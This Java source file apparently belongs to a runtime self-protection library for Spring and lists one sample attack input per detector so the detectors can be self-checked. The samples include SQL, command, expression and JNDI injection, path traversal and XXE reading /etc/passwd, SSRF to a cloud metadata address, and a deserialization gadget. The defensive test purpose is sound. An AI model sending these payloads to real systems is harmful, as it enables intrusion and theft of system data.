package io.github.raspspring.selfcheck;

import java.util.List;

import io.github.raspspring.engine.InputLocation;
import io.github.raspspring.engine.InputValue;

/**
 * An attack of one class as it arrives. None does harm: nothing is executed, and the
 * addresses are those of documentation (RFC 5737) or this machine.
 *
 * @param detector name of the detector that has to see it
 * @param value what arrives
 */
record SampleRequest(String detector, InputValue value) {

	static List<SampleRequest> all() {
		return List.of(query("sql-injection", "x' UNION SELECT 1,2-- "),
				query("command-injection", "x; cat /etc/passwd"),
				query("expression-injection", "${T(java.lang.Runtime).getRuntime()}"),
				query("cross-site-scripting", "<script>alert(1)</script>"),
				query("path-traversal", "../../../../etc/passwd"),
				query("ssrf", "http://169.254.169.254/latest/meta-data/"),
				query("jndi-injection", "${jndi:ldap://192.0.2.1/a}"),
				query("server-side-include", "<!--#exec cmd=\"id\" -->"),
				new SampleRequest("nosql-injection", InputValue.ofName(InputLocation.QUERY, "user[$ne]")),
				query("ldap-injection", "*)(uid=*))(|(uid=*"),
				query("xpath-injection", "x' or count(//user)>0 or 'a'='b"),
				new SampleRequest("xml-external-entity", new InputValue(InputLocation.BODY, "body",
						"<?xml version=\"1.0\"?><!DOCTYPE a [<!ENTITY b SYSTEM \"file:///etc/passwd\">]><a>&b;</a>")),
				new SampleRequest("deserialization",
						new InputValue(InputLocation.JSON, "/@type", "com.sun.rowset.JdbcRowSetImpl")),
				query("header-injection", "x\r\nSet-Cookie: a=b"),
				new SampleRequest("class-access", InputValue.ofName(InputLocation.QUERY, "class.module.classLoader.a")),
				query("forward", "forward:/WEB-INF/web.xml"));
	}

	private static SampleRequest query(String detector, String value) {
		return new SampleRequest(detector, new InputValue(InputLocation.QUERY, "q", value));
	}

}
